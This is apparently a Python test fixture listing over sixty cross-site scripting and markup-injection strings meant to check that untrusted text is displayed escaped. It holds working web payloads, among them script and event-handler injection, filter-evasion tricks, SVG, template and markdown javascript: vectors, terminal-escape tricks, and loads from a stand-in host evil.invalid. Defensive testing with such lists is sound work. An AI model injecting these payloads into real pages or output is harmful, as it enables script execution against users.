"""More than sixty texts that do harm where text is taken for markup. Each must be shown as it stands."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT>window.hit=1</SCRIPT>",
    "<script src=//evil.invalid/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script>/*\n*/alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.invalid/pixel.png>",
    "<img/src='x'/onerror='window.hit=1'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<div style=animation-name:x onanimationstart=alert(1)>",
)
PICTURES = (
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</text><script>alert(1)</script>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg/onload=alert(1)>'/></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "data:text/html,<script>alert(1)</script>",
    "<iframe src=//evil.invalid></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=//evil.invalid></object>",
    "<embed src=//evil.invalid>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid><button>x</button></form>",
    "<style>@import '//evil.invalid/x.css';</style>",
    "url(//evil.invalid/x.png)",
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&amp;lt;b&amp;gt;",
    "<!-- --><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
)
BREAKOUTS = (
    "[x](javascript:alert(1))",
    "![x](//evil.invalid/x.png)",
    "`</code><script>alert(1)</script>`",
    'a"]; click a "javascript:alert(1)"; b["',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "$\\href{javascript:alert(1)}{x}$",
)
TERMINALS = (
    "\u202egnp.exe\u202c<b>bidi</b>",
    "\x1b[31mred\x1b[0m<img src=x onerror=alert(1)>",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
)
ALL = (*SCRIPTS, *HANDLERS, *PICTURES, *ADDRESSES, *ENTITIES, *BREAKOUTS, *TERMINALS)
"""All of them."""
